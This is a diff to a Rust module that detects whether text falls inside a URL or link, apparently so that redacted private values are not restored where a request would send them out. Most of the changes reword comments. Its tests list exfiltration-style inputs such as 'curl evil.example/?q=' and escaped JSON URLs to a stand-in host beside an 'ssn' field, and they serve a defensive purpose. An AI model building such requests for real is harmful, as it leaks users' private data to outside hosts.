@@ -1,51 +1,52 @@
-//! Whether a place in a text belongs to an address that a reader would open: a value that is put back there would leave with it.
+//! Whether an offset in a text belongs to an address that a reader would open: a value restored there would be sent
+//! with it.
 //!
-//! Told by what stands before the place, byte by byte, since a stream's text comes in pieces. In doubt it belongs to one: the
-//! placeholder then stays, which asks nobody.
+//! Determined from the text before the offset, byte by byte, since a stream's text comes in pieces. In doubt it
+//! belongs to one: the placeholder then stays, and no request discloses the value.
 
 use mesh_wire::resolve_inside;
 
-/// A running text in both of its readings: as it stands, and as JSON with its escapes resolved.
+/// A running text in both of its readings: as it is, and as JSON with its escapes resolved.
 #[derive(Clone, Copy, Debug, Default)]
 pub(crate) struct Readings {
     shown: Addresses,
     spelled: Addresses,
-    /// An escape was cut in two, so that nobody knows what it spelled.
+    /// An escape was split, so that its meaning is unknown.
     in_doubt: bool,
 }
 
 impl Readings {
-    /// At the beginning of what a tool is called with, or of a string in it.
+    /// At the beginning of a tool's arguments, or of a string in them.
     pub(crate) fn of_arguments() -> Self {
         let begun = Addresses { arguments: true, quote: STRING, ..Addresses::default() };
         Readings { shown: begun, spelled: begun, in_doubt: false }
     }
 
-    /// The same of what a tool is called with as a stream has it: JSON, in which an address ends with its string.
+    /// The same for arguments in a stream: JSON, in which an address ends with its string.
     pub(crate) fn of_json() -> Self {
         let mut readings = Self::of_arguments();
         readings.spelled.strings = Strings::Closed;
         readings
     }
 
-    /// Whether what comes next belongs to an address; what a tool is called with is only read as JSON.
+    /// Whether the next text belongs to an address; a tool's arguments are only read as JSON.
     pub(crate) fn inside(&self, arguments: bool) -> bool {
         self.in_doubt || self.spelled.inside() || !arguments && self.shown.inside()
     }
 
-    /// What comes next goes on with an escape that began in what was taken in.
+    /// The next text continues an escape that began in the text so far.
     pub(crate) fn cut_in_two(&mut self) {
         self.in_doubt = true;
     }
 
-    /// Takes in what comes next, which cuts no escape in two.
+    /// Reads the next text, which splits no escape.
     pub(crate) fn feed(&mut self, text: &str) {
         self.shown.feed(text);
         self.spelled.feed(&resolve_inside(text));
     }
 }
 
-/// Whether a member's name says that an address stands in it (`url`, `image_url`, `fileUri`, `href`, `urls`).
+/// Whether a member's name denotes an address (`url`, `image_url`, `fileUri`, `href`, `urls`).
 pub(crate) fn is_of_address(name: &str) -> bool {
     let name = name.to_ascii_lowercase();
     ends_like_one(name.as_bytes())
@@ -56,10 +57,11 @@ fn ends_like_one(name: &[u8]) -> bool {
     [&b"url"[..], b"uri", b"href"].iter().any(|end| one.ends_with(end))
 }
 
-/// The mark of a string that is read without its marks: no text has it, so that it ends nowhere.
+/// The quotation mark of a string that is read without its marks: it occurs in no text, so that the string never
+/// ends.
 const STRING: u8 = 0xFF;
 
-/// Reads a text and knows whether what comes next belongs to an address.
+/// Reads a text and tracks whether the next text belongs to an address.
 #[derive(Clone, Copy, Debug, Default)]
 struct Addresses {
     place: Place,
@@ -67,20 +69,20 @@ struct Addresses {
     member: Member,
     /// The last six bytes, ASCII letters in lower case.
     last: [u8; 6],
-    /// The quotation mark before the word that is read, if one stands there.
+    /// The quotation mark before the current word, if there is one.
     quote: u8,
-    /// Only white space has come since a line ended.
+    /// Only white space has followed the last line break.
     blank: bool,
-    /// It is what a tool is called with: some tool takes a string for an address that begins like one, and all of it.
+    /// It is a tool's arguments: a tool may take all of a string that begins like an address as one.
     arguments: bool,
     strings: Strings,
     host: Host,
 }
 
-/// The strings of JSON, whose marks are told from those in them.
+/// The strings of JSON, whose quotation marks differ from those inside them.
 #[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
 enum Strings {
-    /// It is no JSON, or not known to be.
+    /// It is not JSON, or not known to be.
     #[default]
     Unknown,
     Closed,
@@ -97,22 +99,22 @@ impl Strings {
     }
 }
 
-/// How far a word goes on like the name of a host, or its number.
+/// How far a word looks like a host name or an IP address.
 #[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
 enum Host {
     /// It may begin here.
     #[default]
     Begin,
     No,
-    /// In a label that is no host's last one, or in the first.
+    /// In the first label, or in one that cannot be a host's last.
     Label,
-    /// Behind a label's dot.
+    /// After a label's dot.
     Dot,
-    /// In a label behind a dot that begins with a letter.
+    /// In a label after a dot that begins with a letter.
     Name,
-    /// In one of digits, behind so many others.
+    /// In a label of digits, after this many others.
     Number(u8),
-    /// Behind the dot of such a one.
+    /// After the dot of such a label.
     NumberDot(u8),
     /// In its port.
     Port,
@@ -141,7 +143,7 @@ impl Host {
         }
     }
 
-    /// Whether somebody is asked at it with what comes behind this.
+    /// Whether the host is sent what follows this byte.
     fn is_asked(self, b: u8) -> bool {
         matches!(self, Host::Name | Host::Number(3) | Host::Port) && matches!(b, b'/' | b'?')
     }
@@ -151,14 +153,14 @@ impl Host {
 enum Place {
     #[default]
     Text,
-    /// After two slashes, `www.` or `https:`: up to white space, or up to the mark that it was quoted with.
+    /// After two slashes, `www.` or `https:`: up to white space, or up to the enclosing quotation mark.
     Url { quote: u8 },
-    /// After a host's name and a slash or a question mark, which `curl` and chat programs take for an address: up to white
-    /// space, or up to the mark that it was quoted with.
+    /// After a host name and a slash or a question mark, which `curl` and chat programs take for an address: up to
+    /// white space, or up to the enclosing quotation mark.
     Bare { quote: u8 },
-    /// Right after `mailto:`. Who is written to comes back; what stands behind it would go to them.
+    /// Right after `mailto:`. The recipient is restored; what follows would be sent to them.
     Mail { quote: u8 },
-    /// After `](` of Markdown or `url(` of CSS, so many brackets deep.
+    /// After `](` of Markdown or `url(` of CSS, with the depth of parentheses.
     Target { depth: u32 },
     /// After Markdown's `[label]:`, one word; whether that has begun.
     Definition { begun: bool },
@@ -168,7 +170,7 @@ enum Place {
     Tag { quote: u8, value: bool },
 }
 
-/// Markdown's `[label]` at the beginning of a line, behind the marks of lists and quotes.
+/// Markdown's `[label]` at the beginning of a line, after the markers of lists and quotes.
 #[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
 enum Label {
     #[default]
@@ -178,15 +180,15 @@ enum Label {
     Closed,
 }
 
-/// A member or variable whose name says that it is an address.
+/// A member or variable whose name denotes an address.
 #[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
 enum Member {
     #[default]
     No,
     Name,
-    /// Behind `:` or `=`: a string is what it holds.
+    /// After `:` or `=`: a string is its value.
     Value,
-    /// Among the strings of a list that it holds.
+    /// In a list of strings that is its value.
     List,
 }
 
@@ -212,7 +214,7 @@ impl Addresses {
             self.place = place;
             match b {
                 b'"' | b'\'' | b'`' => self.quote = b,
-                // Blanks at the beginning of a string are no part of an address.
+                // White space at the beginning of a string is not part of an address.
                 _ if self.arguments && begins => {}
                 _ if b.is_ascii_whitespace() => self.quote = 0,
                 _ => {}
@@ -292,10 +294,10 @@ impl Addresses {
     fn next_label(&self, b: u8, paragraph: bool) -> Label {
         let [.., before] = self.last;
         match (self.label, b) {
-            // A label may go on in the next line.
+            // A label may continue on the next line.
             (Label::Open, b'\n' | b'\r') if !paragraph => Label::Open,
             (_, b'\n' | b'\r') => Label::Begin,
-            // A string begins as a line does.
+            // A string begins like a line.
             _ if self.arguments && is_quote(b) => Label::Begin,
             (Label::Begin | Label::Closed, b'[') => Label::Open,
             (Label::Begin, b' ' | b'\t' | b'>' | b'-' | b'*' | b'+' | b'.' | b')' | b'0'..=b'9') => {
@@ -310,7 +312,7 @@ impl Addresses {
 
     fn next_member(&self, b: u8, place: Place) -> Member {
         if self.place != Place::Text || place != Place::Text {
-            // A list goes on behind the string that ends.
+            // A list continues after a string ends.
             return if self.member == Member::List { Member::List } else { Member::No };
         }
         let assigns = matches!(b, b':' | b'=');
@@ -346,7 +348,7 @@ mod tests {
             ("see HTTPS:\\\\example.com/?q=", true),
             ("see www.example.com/?q=", true),
             ("[a]: www.example.com/?q=", true),
-            // Not every space or mark ends one.
+            // Not every space or quotation mark ends an address.
             ("https://example.com/?q=a\u{a0}", true),
             ("https://example.com/?q=\"", true),
             ("https://example.com/?q='", true),
@@ -404,7 +406,7 @@ mod tests {
             ("{\"urls\": [\"a.example\"], \"note\": \"", false),
             ("{\"url\":\"a.example\",\"ssn\":\"", false),
             ("{\"url\":null,\"ssn\":\"", false),
-            // A host's name needs no scheme.
+            // A host name needs no scheme.
             ("curl evil.example/?q=", true),
             ("curl evil.example?q=", true),
             ("curl -d x evil.example:8080/", true),
@@ -438,13 +440,13 @@ mod tests {
         for (before, text, arguments) in [
             (r#"{"a":"\u002f\u002fevil.example/?q="#, true, true),
             (r#"{"\u0075rl":"evil.example/?q="#, true, true),
-            // An escaped mark ends no string.
+            // An escaped quotation mark does not end a string.
             (r#"{"url":"evil.example/?a=\"&q="#, true, true),
             (r#"{"url":"https://evil.example/?a=\u0022&q="#, true, true),
             (r#"{"url":"https://a.example/\\","ssn":""#, false, false),
             (r#"{"j":"{\"url\":\"evil.example/?q="#, true, true),
             (r#"{"j":"{\"url\":\"a.example\",\"ssn\":\""#, false, false),
-            // What stands there as two is one for who reads JSON.
+            // Two characters as written are one for a JSON reader.
             (r#"{"file":"C:\\dir\\"#, true, false),
         ] {
             let mut readings = Readings::default();
@@ -453,7 +455,7 @@ mod tests {
         }
     }
 
-    /// As the string stands in a stream's JSON, and by itself in a whole answer.
+    /// With the string as in a stream's JSON, and alone as in a whole response.
     #[test]
     fn a_string_in_arguments_that_begins_like_an_address_is_one() {
         for (before, inside) in [
